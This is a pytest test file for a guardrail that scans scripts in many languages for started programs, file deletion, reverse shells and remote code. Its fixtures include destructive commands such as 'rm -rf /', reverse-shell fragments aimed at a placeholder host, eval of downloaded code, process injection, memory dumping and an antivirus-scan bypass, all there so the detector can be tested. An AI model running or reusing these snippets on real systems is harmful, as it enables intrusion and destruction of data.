import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_server.guardrails.script.foreign import lowering
from mcp_server.guardrails.script.foreign.facts import Deed, Facts
from mcp_server.guardrails.script.foreign.syntaxes import SYNTAXES
from mcp_server.guardrails.script.model import HOLE, Trait


def _started(language: str, code: str) -> list[tuple[str, ...]]:
    """What is started; a text for a shell begins with `$`."""
    return [
        ("$", start.words[0].text) if start.is_text else tuple(w.text for w in start.words)
        for start in lowering.read(code, language).starts
    ]


def _acts(language: str, code: str) -> list[tuple[Deed, tuple[str, ...]]]:
    acts = lowering.read(code, language).acts
    return [(act.deed, tuple(word.text for word in act.words)) for act in acts]


@pytest.mark.parametrize(
    ("language", "code", "started"),
    [
        ("perl", "system('rm -r /x')", ("$", "rm -r /x")),
        ("perl", 'system "rm", "-r", "/x";', ("rm", "-r", "/x")),
        ("perl", "my $d = '/x'; exec(\"rm -r $d\");", ("$", "rm -r /x")),
        ("perl", "print `id`;", ("$", "id")),
        ("perl", "print qx{id};", ("$", "id")),
        ("perl", "open(F, 'id |');", ("$", "id ")),
        ("perl", "open(my $f, '-|', 'rm', '/x');", ("rm", "/x")),
        ("ruby", "system 'rm', '/x'", ("rm", "/x")),
        ("ruby", "puts %x(id)", ("$", "id")),
        ("ruby", "IO.popen('id') { |f| f.read }", ("$", "id")),
        ("ruby", 'd = "/x"; `rm -r #{d}`', ("$", "rm -r /x")),
        ("php", "shell_exec('id');", ("$", "id")),
        ("php", "SYSTEM('id');", ("$", "id")),
        ("php", "$d = '/x'; passthru(\"rm -r {$d}\");", ("$", "rm -r /x")),
        ("php", "exec('rm -r ' . $d);", ("$", f"rm -r {HOLE}")),
        ("node", "require('child_process').execSync('id')", ("$", "id")),
        ("node", "require('child_process').spawn('rm', ['-r', '/x'])", ("rm", "-r", "/x")),
        ("lua", "os.execute('id')", ("$", "id")),
        ("lua", "io.popen([[id]])", ("$", "id")),
        ("awk", 'BEGIN { system("id") }', ("$", "id")),
        ("awk", 'BEGIN { "id" | getline x }', ("$", "id")),
        ("awk", '{ print | "sort" }', ("$", "sort")),
        ("tcl", "exec rm -rf /x", ("rm", "-rf", "/x")),
        ("osascript", 'do shell script "id" with administrator privileges', ("$", "id")),
        ("java", 'Runtime.getRuntime().exec("id");', ("$", "id")),
        ("java", 'new ProcessBuilder("rm", "/x").start();', ("rm", "/x")),
        ("go", 'exec.Command("rm", "/x").Run()', ("rm", "/x")),
        ("groovy", '"id".execute()', ("$", "id")),
        ("vbscript", 'CreateObject("WScript.Shell").Run "id", 0', ("$", "id")),
        ("csharp", 'Process.Start("cmd.exe", "/c ver");', ("$", "cmd.exe /c ver")),
    ],
)
def test_a_program_that_is_started_is_found(language, code, started):
    assert _started(language, code) == [started]


@pytest.mark.parametrize(
    ("language", "code", "act"),
    [
        ("perl", "unlink glob '/x/*'", (Deed.DELETE, ("/x/*",))),
        ("perl", "use File::Path; rmtree('/x');", (Deed.DELETE_TREE, ("/x",))),
        ("perl", "chmod 0777, '/x'", (Deed.MODE, ("777", "/x"))),
        ("perl", "open(F, '>', '/x')", (Deed.WRITE, ("/x",))),
        ("ruby", "FileUtils.rm_rf '/x'", (Deed.DELETE_TREE, ("/x",))),
        ("ruby", "File.delete(*Dir.glob('/x/*'))", (Deed.DELETE, ("/x/*",))),
        ("php", "unlink('/x');", (Deed.DELETE, ("/x",))),
        ("php", "chmod('/x', 0777);", (Deed.MODE, ("777", "/x"))),
        ("node", "require('fs').rmSync('/x', {recursive: true})", (Deed.DELETE_TREE, ("/x",))),
        ("lua", "os.remove('/x')", (Deed.DELETE, ("/x",))),
        ("go", 'os.RemoveAll("/x")', (Deed.DELETE_TREE, ("/x",))),
        ("tcl", "file delete -force /x", (Deed.DELETE_TREE, ("/x",))),
    ],
)
def test_what_is_done_to_files_is_found(language, code, act):
    assert _acts(language, code) == [act]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "# system('rm -rf /')"),
        ("perl", "print 'system(\"rm -rf /\")';"),
        ("perl", "s/system('a')/b/"),
        ("perl", "print q{`rm -rf /`}"),
        ("ruby", "puts 'unlink'"),
        ("php", "// system('id')\nphpinfo();"),
        ("php", "/* system('id') */ echo 1;"),
        ("node", "/a/.exec('a')"),
        ("node", "const m = re.exec('rm -rf /')"),
        ("lua", "-- os.execute('id')"),
        ("awk", "{ print $1 }"),
        ("awk", '$1 ~ /system("id")/ { print "system(1)" }'),
        ("vbscript", '\' shell.Run "id"'),
    ],
)
def test_comments_texts_and_patterns_start_nothing(language, code):
    facts = lowering.read(code, language)
    assert (facts.starts, facts.acts, facts.traits) == ([], [], set())


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "use Socket; socket(S, 2, 1, 6); connect(S, $a); exec('/bin/sh -i');"),
        ("perl", "$c = new IO::Socket::INET('h:1'); system $_ while <$c>;"),
        ("perl", "$c = IO::Socket::INET->new('h:1'); print $c `$_` while <$c>;"),
        ("ruby", "c = TCPSocket.new('h', 1); spawn('sh', [:in, :out] => c)"),
        ("ruby", "c = TCPSocket.new('h', 1); while l = c.gets; IO.popen(l) { }; end"),
        ("php", "$s = fsockopen('h', 1); proc_open('sh', [$s, $s, $s], $p);"),
        ("php", "$s = fsockopen('h', 1); `sh <&3 >&3`;"),
        ("php", "$s = fsockopen('h', 1); proc_open('id; sh -i', $d, $p);"),
        ("node", "c = require('net').connect(1, 'h'); require('child_process').spawn('sh')"),
        ("lua", "t = require('socket').tcp(); t:connect('h', 1); io.popen(t:receive())"),
        ("awk", 'BEGIN { s = "/inet/tcp/0/h/1"; s |& getline c; c |& getline o }'),
        ("tcl", "set s [socket h 1]; gets $s c; exec $c"),
        ("go", 'c, _ := net.Dial("tcp", "h:1"); p := exec.Command("sh"); p.Stdin = c'),
        ("c", 'connect(s, a, n); dup2(s, 0); socket(2, 1, 0); execl("/bin/sh", "sh", 0);'),
        ("java", 'Process p = new ProcessBuilder("sh").start(); Socket s = new Socket(h, 1);'),
    ],
)
def test_a_shell_for_another_host_is_recognised(language, code):
    assert Trait.REVERSE_SHELL in lowering.read(code, language).traits


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "use DBI; $d = DBI->connect('dbi:x'); while (<STDIN>) { system($cmd) }"),
        ("node", "app.listen(80); app.on('x', f); require('child_process').exec(cmd)"),
        ("ruby", "TCPSocket.new('h', 1).close; system('uptime')"),
        ("php", "fsockopen('h', 80); exec('uptime');"),
        ("awk", 'BEGIN { s = "/inet/tcp/0/h/80"; print "GET /" |& s; s |& getline l; print l }'),
        ("lua", "require('socket').connect('h', 1):close()"),
    ],
)
def test_other_uses_of_connections_are_no_shell_for_another_host(language, code):
    assert Trait.REVERSE_SHELL not in lowering.read(code, language).traits


@pytest.mark.parametrize(
    ("language", "code", "trait"),
    [
        ("perl", "use LWP::Simple; eval get('http://h/x');", Trait.REMOTE_CODE),
        ("ruby", "eval(URI.open('http://h/x').read)", Trait.REMOTE_CODE),
        ("php", "eval(file_get_contents('http://h/x'));", Trait.REMOTE_CODE),
        (
            "node",
            "require('http').get('http://h/x', r => r.on('data', d => eval(d)))",
            Trait.REMOTE_CODE,
        ),
        ("php", "eval(base64_decode($_ENV['x']));", Trait.HIDDEN_CODE),
        ("csharp", "[DllImport] WriteProcessMemory(); CreateRemoteThread();", Trait.INJECTION),
        ("csharp", "MiniDumpWriteDump(h, p, f);", Trait.MEMORY_DUMP),
        ("csharp", 'GetProcAddress(m, "AmsiScanBuffer")', Trait.SCANNER_BYPASS),
    ],
)
def test_what_code_does_is_recognised(language, code, trait):
    assert lowering.read(code, language).traits == {trait}


def test_code_that_is_decoded_from_a_constant_is_given_back():
    facts = lowering.read("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "php")
    assert [(nested.text, nested.is_decoded) for nested in facts.nested] == [
        ("system('id');", True)
    ]


@given(st.sampled_from(sorted({*SYNTAXES, "tcl"})), st.text())
def test_any_text_can_be_scanned_as_any_language(language, code):
    assert isinstance(lowering.read(code, language), Facts)


@pytest.mark.parametrize("unit", ["exec(", "eval(", "a=", "$a=", "{", '"', "qq(", "`", "\\", "/"])
@pytest.mark.parametrize("language", ["perl", "ruby", "php", "node"])
def test_no_code_takes_long_and_what_is_left_off_is_said(language, unit):
    facts = lowering.read(unit * (20_000 // len(unit)), language)
    assert isinstance(facts, Facts)


def test_code_that_repeats_itself_without_end_is_not_called_whole():
    assert lowering.read("eval(" * 4000, "perl").is_whole is False
